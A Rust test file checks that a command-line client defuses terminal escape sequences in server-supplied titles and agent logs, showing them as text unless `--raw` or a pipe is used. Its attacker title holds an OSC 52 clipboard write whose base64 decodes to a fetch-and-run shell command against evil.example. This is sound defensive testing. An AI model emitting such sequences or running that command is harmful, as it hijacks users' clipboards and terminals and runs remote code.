//! The CLI never lets text from the server act on the user's terminal: an item whose title
//! and agent log carry OSC 52 (clipboard write), CSI 2J (screen clear), fake colours and an
//! 8-bit CSI is shown by `show`, `list`, `logs` and `logs --follow` run under a real
//! pseudo-terminal, and not one ESC (or C1 CSI) byte reaches it; the sequences show as visible
//! text instead. `--raw` passes the bytes to the terminal, and so does a pipe, as documented.

mod common;
use common::*;
use serde_json::json;
use std::io::Read;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const T: Duration = Duration::from_secs(30);

/// The title an attacker gives an item: a clipboard write and a screen clear.
const TITLE: &str = "fix \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}the \u{1b}[2Jbuild";

/// The CLI, pointed at the test server.
fn cli(s: &TestServer, args: &[&str]) -> Command {
    let mut command = Command::new(BIN);
    command
        .arg("--config")
        .arg(s.config_path())
        .args(["--server", &s.url])
        .args(args)
        .env_remove("FLIGHTDECK_URL")
        .env("RUST_LOG", "warn")
        .stdin(Stdio::null());
    command
}

/// Runs the CLI with a terminal as stdout and stderr until `done` holds for what reached the
/// terminal (then it is stopped) or it exits; returns every byte the terminal received.
fn on_terminal(mut command: Command, done: impl Fn(&[u8]) -> bool) -> Vec<u8> {
    let (mut master, slave) = open_pty();
    let mut child = command
        .stdout(slave.try_clone().expect("dup the pty"))
        .stderr(slave)
        .spawn()
        .expect("start the CLI");
    // The command holds the parent's copies of the slave end: drop them so that the master
    // sees the end once the CLI exits.
    drop(command);
    let seen = Arc::new(Mutex::new(Vec::new()));
    let reader = {
        let seen = seen.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            // Ends with EIO once no process holds the slave end any more.
            while let Ok(n) = master.read(&mut buf) {
                if n == 0 {
                    break;
                }
                seen.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        })
    };
    let started = Instant::now();
    loop {
        if done(&seen.lock().unwrap()) {
            let _ = child.kill();
            break;
        }
        if child.try_wait().expect("wait for the CLI").is_some() {
            break;
        }
        assert!(
            started.elapsed() < T,
            "the CLI printed this and no more: {}",
            String::from_utf8_lossy(&seen.lock().unwrap())
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let _ = child.wait();
    reader.join().expect("pty reader");
    let out = seen.lock().unwrap().clone();
    out
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// Asserts that no control sequence reached the terminal and that it showed them as text.
fn assert_defused(what: &str, out: &[u8], visible: &[&str]) {
    let text = String::from_utf8_lossy(out);
    assert!(
        !out.contains(&0x1b),
        "{what} sent ESC to the terminal: {text:?}"
    );
    assert!(
        !contains(out, "\u{9b}".as_bytes()) && !out.contains(&0x07),
        "{what} sent a C1 CSI or BEL to the terminal: {text:?}"
    );
    for v in visible {
        assert!(text.contains(v), "{what} shows {v:?} as text: {text:?}");
    }
}

#[test]
fn escape_sequences_from_the_server_never_reach_the_terminal() {
    let agent = serde_json::to_string(&[
        "/bin/sh".to_string(),
        fixture("agents/terminal-escapes.sh"),
        "clipboard".into(),
        "clear".into(),
        "c1".into(),
    ])
    .unwrap();
    let s = TestServer::start(&format!(
        "[pool]\nsize = 1\n[agent]\npreset = \"lines\"\ncommand = {agent}\n"
    ));
    let item = s.create(json!({"title": TITLE, "status": "ready"}));
    let id = item["id"].as_str().unwrap().to_string();
    assert_eq!(item["title"], TITLE, "the server keeps the title as given");
    s.wait_status(&id, "review", T);

    let out = on_terminal(cli(&s, &["show", &id]), |_| false);
    assert_defused("show", &out, &["\\x1b]52;c;", "\\x07the \\x1b[2Jbuild"]);
    let out = on_terminal(cli(&s, &["list"]), |_| false);
    assert_defused("list", &out, &["\\x1b]52;c;"]);
    let out = on_terminal(cli(&s, &["show", &id, "--json"]), |_| false);
    assert_defused("show --json", &out, &["\\u001b]52;c;"]);

    let visible_log = [
        "before clipboard \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07after clipboard",
        "before clear \\x1b[2J\\x1b[H\\x1b[32mall tests passed\\x1b[0m",
        "before c1 \\u{9b}31mred",
    ];
    let out = on_terminal(cli(&s, &["logs", &id]), |_| false);
    assert_defused("logs", &out, &visible_log);
    let out = on_terminal(cli(&s, &["logs", &id, "--follow"]), |seen| {
        contains(seen, b"escapes printed")
    });
    assert_defused("logs --follow", &out, &visible_log);

    // --raw hands the terminal the bytes as the agent wrote them.
    let out = on_terminal(cli(&s, &["logs", &id, "--raw"]), |_| false);
    assert!(
        contains(&out, b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07")
            && contains(&out, b"\x1b[2J")
            && contains(&out, "\u{9b}31m".as_bytes()),
        "logs --raw passes the bytes: {:?}",
        String::from_utf8_lossy(&out)
    );
    let out = on_terminal(cli(&s, &["show", &id, "--raw"]), |_| false);
    assert!(
        contains(&out, TITLE.as_bytes()),
        "show --raw passes the title's bytes: {:?}",
        String::from_utf8_lossy(&out)
    );

    // Into a pipe the bytes pass unchanged, as documented.
    let piped = cli(&s, &["logs", &id])
        .stdout(Stdio::piped())
        .output()
        .expect("run the CLI");
    assert!(piped.status.success());
    assert!(
        contains(&piped.stdout, b"\x1b[2J"),
        "a pipe gets the bytes: {:?}",
        String::from_utf8_lossy(&piped.stdout)
    );
}
